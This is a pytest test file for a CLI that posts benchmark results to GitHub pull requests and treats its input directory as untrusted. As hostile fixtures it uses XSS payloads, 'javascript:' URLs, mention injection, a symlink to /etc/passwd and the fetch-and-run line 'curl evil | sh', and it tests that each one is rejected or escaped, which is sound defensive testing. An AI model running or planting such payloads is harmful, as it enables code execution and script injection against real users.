"""`compilewatch post`: the output directory is untrusted data; one comment and one check."""

from __future__ import annotations

import json
import re
from pathlib import Path

import pytest
from click.testing import CliRunner, Result

from compilewatch.bot.cli import main
from compilewatch.bot.commands.post import PostRequest, Rendered, post_outdir
from compilewatch.bot.render.escape import md_escape
from compilewatch.bot.render.formats import MARKER
from compilewatch.core.errors import ResultsFileError
from compilewatch.core.results_file import save_results
from compilewatch.core.schema import Category, RunResults
from tests.bot.conftest import FAST
from tests.factories import BASE_COMPONENTS, model_result, run_results
from tests.fakegithub import HEAD_SHA, PR, REPO, TOKEN, FakeGitHub

MARK = "<!-- compilewatch-test-render -->"
BREAK = "call_function print in skip_files"
ATTACK = "@org/team <img src=x onerror=alert(1)> [click](https://evil.example) <script>x</script>"


def naive_render(base: RunResults, head: RunResults, report_url: str | None) -> Rendered:
    """A renderer that forgot to escape: post's last guard must still defuse the text."""
    body = "\n".join([MARK, *(f"- {r.model}: {r.error}" for r in head.results)])
    return Rendered(body, "t", False, MARK)


def write_outdir(tmp_path: Path, head_results: list | None = None, **files: str) -> Path:
    out = tmp_path / "out"
    out.mkdir()
    base = run_results([model_result("tiny_mlp"), model_result("resnet_block", seed=1)],
                       commit="b" * 40)
    changed = {**BASE_COMPONENTS, "example_inputs[0]": "exin0CHANGED0000"}
    head = run_results(head_results or [
        model_result("tiny_mlp", graph_breaks=[BREAK], components=changed, seed=2),
        model_result("resnet_block", seed=3),
    ], commit=HEAD_SHA, pr=PR)
    save_results(base, out / "base.json")
    save_results(head, out / "head.json")
    for name, text in files.items():
        (out / name.replace("_", ".")).write_text(text)
    return out


def post(fake: FakeGitHub, out: Path, *extra: str, token: str | None = TOKEN) -> Result:
    args = ["post", str(out), "--repo", REPO, "--pr", str(PR), "--sha", HEAD_SHA,
            "--github-url", fake.base_url, "--retries", "2", "--retry-backoff", "0.01", *extra]
    env = {"GITHUB_TOKEN": token} if token else {"GITHUB_TOKEN": ""}
    return CliRunner().invoke(main, args, env=env)


def test_regression_gives_one_comment_and_a_failing_check(fake_github: FakeGitHub,
                                                          tmp_path: Path) -> None:
    result = post(fake_github, write_outdir(tmp_path), "--report-url", "https://ci.example/1")
    assert result.exit_code == 0, result.output
    [comment] = fake_github.issue_comments(REPO, PR)
    # the real renderer escapes untrusted text, so look for the escaped forms
    assert md_escape(BREAK) in comment["body"]
    assert md_escape("example_inputs[0]") in comment["body"]
    assert comment["body"].startswith(MARKER)
    [run] = fake_github.check_runs.values()
    assert (run["head_sha"], run["conclusion"]) == (HEAD_SHA, "failure")
    assert run["details_url"] == "https://ci.example/1"
    assert "comment created" in result.stdout and "check failure" in result.stdout


def test_running_again_edits_the_same_comment(fake_github: FakeGitHub, tmp_path: Path) -> None:
    out = write_outdir(tmp_path)
    assert post(fake_github, out).exit_code == 0
    second = post(fake_github, out)
    assert second.exit_code == 0 and "comment updated" in second.stdout
    assert len(fake_github.issue_comments(REPO, PR)) == 1
    assert len(fake_github.check_runs) == 1
    assert len(fake_github.calls("PATCH", "comments")) == 1


def test_no_regression_gives_a_successful_check(fake_github: FakeGitHub, tmp_path: Path) -> None:
    out = write_outdir(tmp_path, [model_result("tiny_mlp", seed=2),
                                  model_result("resnet_block", seed=3)])
    assert post(fake_github, out).exit_code == 0
    [run] = fake_github.check_runs.values()
    assert run["conclusion"] == "success"


def test_502_twice_then_200_posts_once(fake_github: FakeGitHub, tmp_path: Path) -> None:
    fake_github.fail_next(2, status=502, method="POST", path=r"/comments$")
    result = post(fake_github, write_outdir(tmp_path))
    assert result.exit_code == 0, result.output
    assert len(fake_github.issue_comments(REPO, PR)) == 1
    assert len(fake_github.calls("POST", r"/comments$")) == 3


def test_github_down_is_a_clear_error_and_posts_nothing(fake_github: FakeGitHub,
                                                        tmp_path: Path) -> None:
    fake_github.down(503)
    result = post(fake_github, write_outdir(tmp_path))
    assert result.exit_code == 2
    assert "GitHub stayed unavailable (503) after retries" in result.stderr
    assert fake_github.comments == {} and fake_github.check_runs == {}


def test_unreachable_github_exits_nonzero(fake_github: FakeGitHub, tmp_path: Path) -> None:
    fake_github.stop()
    result = post(fake_github, write_outdir(tmp_path))
    assert result.exit_code == 2 and "unreachable" in result.stderr


def test_check_failing_after_the_comment_says_so(fake_github: FakeGitHub,
                                                 tmp_path: Path) -> None:
    fake_github.fail_next(100, status=500, path="check-runs")
    result = post(fake_github, write_outdir(tmp_path))
    assert result.exit_code == 2
    assert "the comment was posted" in result.stderr and "not duplicated" in result.stderr


def test_status_mode_and_fallback(fake_github: FakeGitHub, tmp_path: Path) -> None:
    out = write_outdir(tmp_path)
    assert post(fake_github, out, "--status").exit_code == 0
    fake_github.deny_checks = True
    result = post(fake_github, out)
    assert result.exit_code == 0 and "fell back to a commit status" in result.stdout
    assert [s["state"] for s in fake_github.statuses] == ["failure", "failure"]
    assert fake_github.check_runs == {}


def test_dry_run_needs_no_token_and_posts_nothing(fake_github: FakeGitHub,
                                                  tmp_path: Path) -> None:
    result = post(fake_github, write_outdir(tmp_path), "--dry-run", token=None)
    assert result.exit_code == 0 and md_escape(BREAK) in result.stdout
    assert "check would be failure" in result.stderr
    assert fake_github.requests == []


def test_trends_url_links_each_flagged_model_to_its_trend_page(fake_github: FakeGitHub,
                                                               tmp_path: Path) -> None:
    result = post(fake_github, write_outdir(tmp_path), "--dry-run", "--trends-url",
                  "https://org.example/cw/", token=None)
    assert result.exit_code == 0, result.output
    assert "https://org.example/cw/models/micro/tiny_mlp/cpu-default-float32-auto.html" \
        in result.stdout
    (tmp_path / "again").mkdir()
    bad = post(fake_github, write_outdir(tmp_path / "again"), "--dry-run", "--trends-url",
               "javascript:alert(1)", token=None)
    assert bad.exit_code == 2 and "--trends-url" in bad.output


def test_missing_token_is_a_usage_error(fake_github: FakeGitHub, tmp_path: Path) -> None:
    result = post(fake_github, write_outdir(tmp_path), token=None)
    assert result.exit_code == 2 and "GITHUB_TOKEN" in result.stderr


def _edit_head(out: Path, edit: object) -> None:
    data = json.loads((out / "head.json").read_text())
    edit(data)  # type: ignore[operator]
    (out / "head.json").write_text(json.dumps(data))


HOSTILE = {
    "unknown field": lambda d: d.update(evil=1),
    "10 MB string": lambda d: d["results"][0].update(error="A" * 10_000_000),
    "NaN": lambda d: d["results"][0]["speedup"].update(value=float("nan")),
    "html in model name": lambda d: d["results"][0].update(model="<img src=x onerror=alert(1)>"),
    "markdown in model name": lambda d: d["results"][0].update(model="[x](https://evil.example)"),
    "mention in model name": lambda d: d["results"][0].update(model="@org/team"),
    "wrong schema version": lambda d: d.update(schema_version=99),
    "other commit": lambda d: d["git"].update(commit="c" * 40),
    "other pr": lambda d: d["git"].update(pr=PR + 1),
    "no commit": lambda d: d["git"].update(commit=None),
    "short commit": lambda d: d["git"].update(commit=d["git"]["commit"][:7]),
    "50k samples": lambda d: d["results"][0]["latency"].update(compiled_us=[1.0] * 50_000),
}


@pytest.mark.parametrize("attack", sorted(HOSTILE))
def test_hostile_results_are_rejected_before_any_request(fake_github: FakeGitHub,
                                                         tmp_path: Path, attack: str) -> None:
    out = write_outdir(tmp_path)
    _edit_head(out, HOSTILE[attack])
    result = post(fake_github, out)
    assert result.exit_code == 2, result.output
    assert "head.json" in result.stderr
    assert fake_github.requests == []


@pytest.mark.parametrize("setup", ["extra file", "symlink", "subdir", "big comment.md",
                                   "missing head"])
def test_unexpected_directory_contents_are_rejected(fake_github: FakeGitHub, tmp_path: Path,
                                                    setup: str) -> None:
    out = write_outdir(tmp_path)
    if setup == "extra file":
        (out / "run.sh").write_text("curl evil | sh")
    elif setup == "symlink":
        (out / "head.json").unlink()
        (out / "head.json").symlink_to("/etc/passwd")
    elif setup == "subdir":
        (out / "logs").mkdir()
    elif setup == "big comment.md":
        (out / "comment.md").write_text("x" * (2 * 1024 * 1024))
    else:
        (out / "head.json").unlink()
    result = post(fake_github, out)
    assert result.exit_code == 2, result.output
    assert str(out) in result.stderr
    assert fake_github.requests == []


def test_mentions_and_html_in_errors_are_neutralised(fake_github: FakeGitHub,
                                                     tmp_path: Path) -> None:
    out = write_outdir(tmp_path, [model_result("tiny_mlp", category=Category.COMPILE_ERROR,
                                               error=ATTACK),
                                  model_result("resnet_block", seed=3)])
    assert post(fake_github, out).exit_code == 0
    [comment] = fake_github.issue_comments(REPO, PR)
    body = comment["body"]
    assert "@org/team" not in body and md_escape("@org/team") in body
    # backslash-escaped "\<img" renders as text; a bare tag would render as HTML
    assert not re.search(r"(?<!\\)<(img|script)", body)
    assert fake_github.check_runs[min(fake_github.check_runs)]["conclusion"] == "failure"


def test_guard_defuses_a_renderer_that_forgot_to_escape(tmp_path: Path) -> None:
    out = write_outdir(tmp_path, [model_result("tiny_mlp", category=Category.COMPILE_ERROR,
                                               error=ATTACK)])
    report = post_outdir(PostRequest(out, repo=REPO, pr=PR, sha=HEAD_SHA, dry_run=True),
                         credentials=None, render=naive_render, policy=FAST)
    body = report.rendered.body
    assert body.startswith(MARK)
    assert "@org/team" not in body and "<img" not in body and "<script>" not in body


def test_files_written_by_the_measuring_job_are_never_posted(fake_github: FakeGitHub,
                                                             tmp_path: Path) -> None:
    out = write_outdir(tmp_path, comment_md="PWNED @everyone",
                       report_html="<script>PWNED</script>",
                       comparison_json='{"gating_regression": false, "text": "PWNED"}')
    assert post(fake_github, out).exit_code == 0
    [comment] = fake_github.issue_comments(REPO, PR)
    assert "PWNED" not in comment["body"]
    [run] = fake_github.check_runs.values()
    assert run["conclusion"] == "failure" and "PWNED" not in run["output"]["summary"]


@pytest.mark.parametrize("args, message", [
    (["--sha", "abc"], "--sha"),
    (["--repo", "acme"], "--repo"),
    (["--report-url", "javascript:alert(1)"], "--report-url"),
])
def test_bad_arguments_are_usage_errors(fake_github: FakeGitHub, tmp_path: Path,
                                        args: list[str], message: str) -> None:
    result = post(fake_github, write_outdir(tmp_path), *args)
    assert result.exit_code == 2 and message in result.stderr
    assert fake_github.requests == []


def test_validation_error_names_the_file(tmp_path: Path) -> None:
    out = write_outdir(tmp_path)
    _edit_head(out, HOSTILE["unknown field"])
    with pytest.raises(ResultsFileError, match=r"head\.json: evil"):
        post_outdir(PostRequest(out, repo=REPO, pr=PR, sha=HEAD_SHA, dry_run=True),
                    credentials=None)


def test_fork_pr_is_found_by_head_label_and_sha(fake_github: FakeGitHub, tmp_path: Path) -> None:
    fake_github.add_pull(REPO, 8, "c" * 40, head_label="contributor:other")
    result = post(fake_github, write_outdir(tmp_path), "--pr", "", "--head-label",
                  "contributor:feature")
    assert result.exit_code == 2  # an empty --pr is refused by click, not guessed
    args = ["post", str(tmp_path / "out"), "--repo", REPO, "--sha", HEAD_SHA,
            "--github-url", fake_github.base_url, "--head-label", "contributor:feature"]
    ok = CliRunner().invoke(main, args, env={"GITHUB_TOKEN": TOKEN})
    assert ok.exit_code == 0, ok.output
    assert len(fake_github.issue_comments(REPO, PR)) == 1
    assert fake_github.issue_comments(REPO, 8) == []


def test_pr_lookup_by_commit_refuses_a_moved_head(fake_github: FakeGitHub,
                                                  tmp_path: Path) -> None:
    fake_github.pulls[(REPO, PR)]["head"] = "d" * 40  # pushed again since the measurement
    args = ["post", str(write_outdir(tmp_path)), "--repo", REPO, "--sha", HEAD_SHA,
            "--github-url", fake_github.base_url]
    result = CliRunner().invoke(main, args, env={"GITHUB_TOKEN": TOKEN})
    assert result.exit_code == 2 and "no single open pull request" in result.stderr
    assert fake_github.comments == {} and fake_github.check_runs == {}


def test_db_ingest_stores_pr_runs_whatever_the_files_claim(fake_github: FakeGitHub,
                                                           tmp_path: Path) -> None:
    from compilewatch.db import connect, runs_for_pr

    out = write_outdir(tmp_path)
    _edit_head(out, lambda d: d["settings"].update(trigger="nightly"))
    url = f"sqlite:///{tmp_path / 'cw.db'}"
    result = post(fake_github, out, "--db", url)
    assert result.exit_code == 0, result.output
    assert "ingested" in result.stdout
    with connect(url) as db:
        runs = runs_for_pr(db, PR)
    assert runs and {r.trigger for r in runs} == {"pr"}


def test_thresholds_come_from_the_trusted_config_dir(fake_github: FakeGitHub,
                                                     tmp_path: Path) -> None:
    """The default gate fails on the new graph break; the trusted config turns that gate off."""
    trusted = tmp_path / "trusted"
    trusted.mkdir()
    (trusted / "pyproject.toml").write_text(
        "[tool.compilewatch.thresholds]\ngraph_breaks = { gate = false }\n"
        "compiled_time = { gate = false }\ncold_compile = { gate = false }\n"
        "memory = { gate = false }\n")
    out = write_outdir(tmp_path)
    strict = post(fake_github, out, "--dry-run", token=None)
    assert "check would be failure" in strict.stderr
    loose = post(fake_github, out, "--dry-run", "--config-dir", str(trusted), token=None)
    assert loose.exit_code == 0, loose.output
    assert "check would be success" in loose.stderr
